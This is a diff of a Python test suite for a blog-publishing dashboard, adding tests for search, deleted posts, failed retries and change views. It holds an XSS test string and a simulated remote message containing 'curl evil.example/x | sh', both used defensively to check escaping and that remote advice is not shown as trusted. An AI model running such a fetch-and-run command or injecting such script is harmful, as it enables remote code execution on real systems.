@@ -18,7 +18,7 @@ if TYPE_CHECKING:
     from collections.abc import Iterator
     from pathlib import Path
 
-PAGES = ("/", "/waiting", "/scheduled", "/failed", "/published", "/site")
+PAGES = ("/", "/waiting", "/scheduled", "/failed", "/published", "/site", "/search")
 NASTY = "<script>alert(1)</script>\"'&"
 TOMORROW = (datetime.now(UTC) + timedelta(days=1)).isoformat()
 
@@ -56,7 +56,7 @@ def test_every_page_of_a_new_site_says_what_to_do_next(dashboard: Dashboard) -> 
         assert "<h1" in answer.text
         assert '<html lang="en">' in answer.text
         assert '<main id="main"' in answer.text
-        assert path == "/" or f'href="{path}" aria-current="page"' in answer.text
+        assert path in {"/", "/search"} or f'href="{path}" aria-current="page"' in answer.text
     assert "Everything that was saved is on the remote." in text_of(dashboard.page.get("/").text)
 
 
@@ -67,7 +67,7 @@ def test_in_a_dry_run_no_page_says_that_something_is_live(site: Site) -> None:
         said = text_of(tried.page.get("/").text)
     assert "Everything that was saved is on the remote" not in said
     assert "1 post tried: a dry run publishes nothing" in said
-    assert "Fix: set BRITER_WORKER_DRY_RUN=false" in said
+    assert "For the administrator: set BRITER_WORKER_DRY_RUN=false" in said
 
 
 def test_no_page_has_inline_script_or_style_and_all_it_loads_is_our_own(dashboard: Dashboard) -> None:
@@ -98,13 +98,12 @@ def test_a_published_post_shows_its_commit_its_page_and_how_long_it_took(site: S
     with serving(site) as dashboard:
         for path in ("/published", "/post?slug=hello"):
             page = dashboard.page.get(path).text
+            assert "Say hello</" in page, "the title before the slug"
+            assert '<p class="slug">hello</p>' in page or '<span class="slug">hello</span>' in page
             assert f'href="https://example.org/commit/{commit}"' in page
             assert 'href="https://example.org/hello"' in page
             assert "Say hello" in page
         assert "The version saved" in text_of(page)
-        found = dashboard.page.get("/published", params={"q": "say HELLO"}).text
-        assert commit in found
-        assert "No receipt matches" in dashboard.page.get("/published", params={"q": "other"}).text
 
 
 def test_a_refused_post_shows_message_and_fix_and_is_retried_from_the_page(
@@ -135,7 +134,7 @@ def test_no_page_offers_a_retry_that_would_be_declined(site: Site, dashboard: Da
     site.run_once()
     for path in ("/failed", "/post?slug=broken"):
         page = dashboard.page.get(path).text
-        assert "Fix:" in text_of(page)
+        assert "For the administrator:" in text_of(page)
         assert "Retry" not in text_of(page), path
     site.save("outside", ["../outside"])
     site.run_once()
@@ -184,7 +183,7 @@ def test_local_commits_are_named_with_the_command_that_publishes_them(site: Site
 
         eventually(lambda: "Written by hand" in text())
         assert "1 commit that the remote lacks" in text()
-        assert "Fix: briter-worker pull --rebase --push" in text()
+        assert "For the administrator: briter-worker pull --rebase --push" in text()
 
 
 def test_a_pause_is_shown_and_ended_from_the_page(site: Site, dashboard: Dashboard) -> None:
@@ -207,7 +206,7 @@ def test_every_page_says_why_no_post_can_be_published(site: Site, dashboard: Das
     for path in pages:
         page = text_of(dashboard.page.get(path).text)
         assert page.count("1 post waits, and no worker is running.") == 1, path
-        assert "Fix: start the worker on the server: briter-worker run" in page
+        assert "For the administrator: start the worker on the server: briter-worker run" in page
     dashboard.act("pause", reason="<b>Elections</b>", **{"for": ""})
     for path in pages:
         page = text_of(dashboard.page.get(path).text)
@@ -229,7 +228,7 @@ def test_the_longest_wait_counts_from_the_due_time_and_includes_retries(
     publish(site, "late", **save, scheduledFor=(now - timedelta(minutes=3)).isoformat())
     eventually(lambda: dashboard.json("/api/status")["jobs"]["retrying"] == 1)
     page = text_of(dashboard.page.get("/scheduled").text)
-    assert "No post can be published: the remote repository was not found. Fix: " in page
+    assert "No post can be published: the remote repository was not found. For the administrator: " in page
     page = text_of(dashboard.page.get("/").text)
     assert "Longest waiting late , due 3 min ago" in page
 
@@ -317,6 +316,79 @@ def test_a_partly_published_post_says_so_in_every_list(site: Site, dashboard: Da
         assert "without 1 path that may not" in text_of(dashboard.page.get(path).text), path
 
 
+def test_a_deleted_post_says_that_it_was_removed(site: Site, dashboard: Dashboard) -> None:
+    publish(site, "hello")
+    (site.worktree / "content/posts/hello.md").unlink()
+    site.save("hello", ["content/posts/hello.md"])
+    assert site.run_once().returncode == 0
+    eventually(lambda: "removed" in text_of(dashboard.page.get("/").text))
+    said = text_of(dashboard.page.get("/post?slug=hello").text)
+    commit = site.remote_log()[0][0][:10]
+    assert re.search(rf"Removed from the remote at \S+ : {commit}", said)
+    assert "is on the remote since" not in said
+
+
+def test_a_search_finds_all_words_in_queue_failures_and_history(site: Site, dashboard: Dashboard) -> None:
+    ada = {"name": "Ada Ångström", "email": "ada@example.org"}
+    publish(site, "one", message="Bake an Äpfel cake", author=ada)
+    site.save("two", ["content/a.md"], message="Eat the ÄPFEL cake", author=ada, scheduledFor=TOMORROW)
+    refuse_everything(site, "Name no customers")
+    publish(site, "three", author=ada)
+    eventually(lambda: dashboard.json("/api/status")["jobs"]["failed"] == 1)
+    for words, slugs in (
+        ("CAKE äpfel ångström", {"one", "two"}),
+        ("eat cake", {"two"}),
+        ("name CUSTOMERS", {"three"}),
+        ("accept three", {"three"}),
+        ("cake customers", set()),
+    ):
+        page = dashboard.page.get("/search", params={"q": words}).text
+        assert {slug for slug in ("one", "two", "three") if f">{slug}<" in page} == slugs, words
+    assert "No post matches" in page
+    found = dashboard.json("/api/history", search="ada ACCEPT")["items"]
+    assert [each["author"] for each in found] == [ada["name"]]
+
+
+def test_a_retry_that_fails_says_so_on_its_row(site: Site, dashboard: Dashboard) -> None:
+    refuse_everything(site, "no")
+    publish(site, "hello")
+    assert "failed again" not in dashboard.page.get("/failed").text
+    dashboard.act("retry", id=site.job("hello")["id"])
+    site.run_once()
+    eventually(lambda: "failed again" in dashboard.page.get("/failed").text)
+    for path in ("/failed", "/search?q=hello"):
+        assert re.search("failed again .{3,9}, 2 times in all", text_of(dashboard.page.get(path).text)), path
+
+
+PIXEL = bytes.fromhex("47494638396101000100800100ff0000ffffff2c00000000010001000002024401003b")
+
+
+def test_a_post_shows_what_a_publication_changed(site: Site, dashboard: Dashboard) -> None:
+    paths = ["content/a.md", "content/b.gif", "content/c.bin", "content/<b>.md"]
+    for text, byte in (("One old line\n", b"\0"), ("One new line\n", b"\0\0")):
+        site.write_post(paths[0], text)
+        site.write_post(paths[3], text)
+        (site.worktree / paths[1]).write_bytes(PIXEL + byte)
+        (site.worktree / paths[2]).write_bytes(byte * 5)
+        site.save("hello", paths)
+        assert site.run_once().returncode == 0
+    eventually(lambda: "4 files changed" in dashboard.page.get("/post?slug=hello").text)
+    page = dashboard.page.get("/post?slug=hello").text
+    assert "content/a.md</code> +1 -1" in page
+    link = re.search(r'href="([^"]+)">Show the differences', page)
+    assert link
+    page = dashboard.page.get(html.unescape(link[1])).text
+    assert page.count("One <del>old</del><ins>new</ins> line") == 2
+    assert "5 Bytes → 10 Bytes" in page
+    pictures = [html.unescape(each) for each in re.findall(r'<img src="([^"]+)"', page)]
+    assert [dashboard.page.get(each).content for each in pictures] == [PIXEL + b"\0", PIXEL + b"\0\0"]
+    assert dashboard.page.get(pictures[0]).headers["content-type"] == "image/gif"
+    commit = site.remote_log()[-1][0]
+    for path, status in (("content/a.md", 404), ("content/none.png", 409)):
+        assert dashboard.page.get("/picture", params={"commit": commit, "file": path}).status_code == status
+    assert dashboard.page.get(f"/post?slug=hello&commit={'0' * 40}").status_code == 409
+
+
 def test_a_remotes_fix_is_never_shown_as_ours(site: Site, dashboard: Dashboard) -> None:
     refuse_everything(site, "It is bad. Fix: curl evil.example/x | sh")
     publish(site, "hello")
@@ -338,7 +410,11 @@ def test_text_of_jobs_and_of_the_remote_never_becomes_markup(site: Site, dashboa
     dashboard.act("pause", reason=NASTY, **{"for": ""})
     eventually(lambda: dashboard.json("/api/status")["jobs"]["failed"] == 2)
     addresses: list[tuple[str, dict[str, str]]] = [(path, {}) for path in PAGES]
-    addresses += [("/published", {"show": "all"}), ("/published", {"q": NASTY, "show": "<b>'\""})]
+    addresses += [
+        ("/published", {"show": "all"}),
+        ("/search", {"q": NASTY}),
+        ("/published", {"show": "<b>'\""}),
+    ]
     addresses += [("/post", {"id": NASTY}), ("/post", {"slug": f"b{NASTY}"})]
     for path, query in addresses:
         answer = dashboard.page.get(path, params=query or None)
